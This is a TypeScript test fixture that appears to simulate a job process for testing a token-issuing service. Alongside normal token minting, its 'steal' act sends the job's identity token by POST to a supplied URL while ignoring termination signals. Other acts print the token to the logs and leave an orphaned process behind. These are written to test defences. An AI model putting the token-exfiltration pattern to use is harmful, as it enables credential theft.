// A job, as a process: `node job-process.ts <what to do> ...`. It writes lines of JSON.
import { spawn } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { type ClientError, createClient } from '@writ/client'
import { readIdentity } from '../../src/read-identity.ts'

const [, , act = '', ...more] = process.argv
const say = (value: unknown) => console.log(JSON.stringify(value))

if (act === 'mint') {
  const identity = readIdentity()
  const client = createClient({
    url: process.env['WRIT_AUTHORITY_URL'] ?? '',
    keys: process.env['WRIT_PUBLIC_KEY'] ?? '',
    identity: () => identity,
  })
  const [target = '', operation = ''] = more
  try {
    const { subject } = await client.mint({ target, operation })
    say({ subject })
  } catch (error) {
    say({ refused: (error as ClientError).reason })
  }
  client.close()
} else if (act === 'environment') {
  say({ environment: process.env, arguments: process.argv })
} else if (act === 'steal') {
  // What a compromised job does first: it hands its token to somebody else, and goes on.
  process.on('SIGTERM', () => undefined)
  await fetch(more[0] ?? '', { method: 'POST', body: readIdentity() })
  setInterval(() => undefined, 1000)
} else if (act === 'print') {
  const token = process.env['WRIT_IDENTITY'] ?? ''
  console.log(`my token is ${token}!`)
  console.error(JSON.stringify({ lines: `\n${token}\n` }))
} else if (act === 'stay') {
  process.on('SIGTERM', () => undefined)
  say({ ready: true })
  setInterval(() => undefined, 1000)
} else if (act === 'leave') {
  // Leaves a process behind that writes its id, and ends.
  const left = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' })
  writeFileSync(more[0] ?? '', String(left.pid))
  left.unref()
} else {
  process.exitCode = Number(act)
}
